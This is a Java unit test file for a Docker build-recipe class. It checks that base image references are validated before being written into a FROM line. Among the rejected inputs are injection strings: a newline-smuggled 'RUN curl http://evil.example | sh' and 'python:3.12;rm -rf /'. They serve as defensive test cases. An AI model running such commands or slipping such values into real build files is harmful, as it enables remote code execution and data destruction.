package dev.envforge.core.recipe;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The base image is written into FROM as given, so only a valid image reference may pass. */
class BuildRecipeTest {
  @ParameterizedTest
  @ValueSource(strings = {"python:3.12-slim", "docker.io/library/python:3.12-slim-bookworm",
      "127.0.0.1:5000/envforge-e2e/python:3.11",
      "ghcr.io/org/base@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"})
  void acceptsImageReferences(String image) {
    assertThat(new BuildRecipe(image, "3.12.7", "linux/amd64", Installer.PIP).baseImage()).isEqualTo(image);
  }

  @ParameterizedTest
  @ValueSource(strings = {"python:3.12\nRUN curl http://evil.example | sh", "python:3.12 AS build",
      "Python:3.12", "python:3.12;rm -rf /", "--platform=linux/arm64 python", "", "python@sha256:xyz"})
  void refusesAnythingElse(String image) {
    assertThatThrownBy(() -> new BuildRecipe(image, "3.12.7", "linux/amd64", Installer.PIP))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("baseImage: ")
        .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
  }

  @ParameterizedTest
  @ValueSource(ints = {256, 1000})
  void refusesOverlongReferences(int length) {
    String image = "registry.example.com/" + "a".repeat(length) + ":1";
    assertThatThrownBy(() -> new BuildRecipe(image, "3.12.7", "linux/amd64", Installer.PIP))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
